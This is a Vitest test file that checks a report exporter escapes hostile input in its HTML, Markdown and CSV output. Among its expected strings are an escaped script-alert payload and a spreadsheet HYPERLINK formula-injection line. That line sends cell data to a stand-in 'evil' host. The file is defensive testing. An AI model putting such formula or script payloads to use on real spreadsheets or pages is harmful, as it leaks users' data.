import { JSDOM } from 'jsdom';
import Papa from 'papaparse';
import { beforeAll, describe, expect, test } from 'vitest';
import { buildReportText, reportModel } from '../../../shared/report/index';
import type { ReportModel } from '../../../shared/report/model';
import { ReportOptions } from '../../../shared/report/options';
import { REPORT_CSS } from '../../../shared/report/style';
import { buildHostileCasefile, EVIL_HOST, HOSTILE } from '../../fixtures/report/hostile-casefile';

let model: ReportModel;

beforeAll(() => {
  const casefile = buildHostileCasefile();
  model = reportModel(casefile, ReportOptions.parse({ title: HOSTILE[7], analyst: HOSTILE[2] }));
});

describe('a casefile with hostile text in every field', () => {
  test('HTML: the text shows as text; no script, handler, frame, stylesheet, image or refresh comes from it', async () => {
    const html = await buildReportText(model, 'html');
    const { document } = new JSDOM(html).window;
    expect(document.querySelectorAll('script, iframe, img, link, object, embed, base, form')).toHaveLength(0);
    expect(document.querySelectorAll('style')).toHaveLength(1);
    expect(document.querySelector('style')!.textContent).toBe(REPORT_CSS);
    expect([...document.querySelectorAll('meta')].map((m) => m.getAttribute('http-equiv') ?? m.getAttribute('name') ?? 'charset')).toEqual(['charset', 'Content-Security-Policy', 'referrer', 'viewport', 'generator']);
    for (const el of document.querySelectorAll('*')) {
      for (const attr of el.getAttributeNames()) expect(attr.startsWith('on'), `${el.tagName} ${attr}`).toBe(false);
    }
    // Links: in-document anchors, and the articles' web addresses when they are http(s); never javascript:.
    for (const a of document.querySelectorAll('a[href]')) {
      const href = a.getAttribute('href')!;
      expect(href.startsWith('#') || /^https?:\/\//.test(href), href).toBe(true);
    }
    expect(document.title).toBe(HOSTILE[7]);
    const text = document.body.textContent!;
    for (const s of HOSTILE.slice(0, 9)) expect(text).toContain(s);
  });

  test('Markdown: no raw HTML, and no link or image syntax survives', async () => {
    const md = await buildReportText(model, 'md');
    expect(md).not.toMatch(/</);
    expect(md).not.toMatch(/(^|[^\\])\]\(/m);
    expect(md).not.toMatch(/(^|[^\\])!\[/m);
    expect(md).not.toMatch(/[^\\]:\/\//);
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  test('CSV: no cell that Excel or LibreOffice would run as a formula', async () => {
    const csv = await buildReportText(model, 'csv');
    const rows = Papa.parse<string[]>(csv.slice(1)).data.filter((r) => r.length > 1);
    expect(rows.length).toBe(model.claims.length + 1);
    for (const row of rows) for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
    expect(csv).toContain(`'=HYPERLINK(""http://${EVIL_HOST}/?leak=""&A1,""Click me"")`);
  });
});
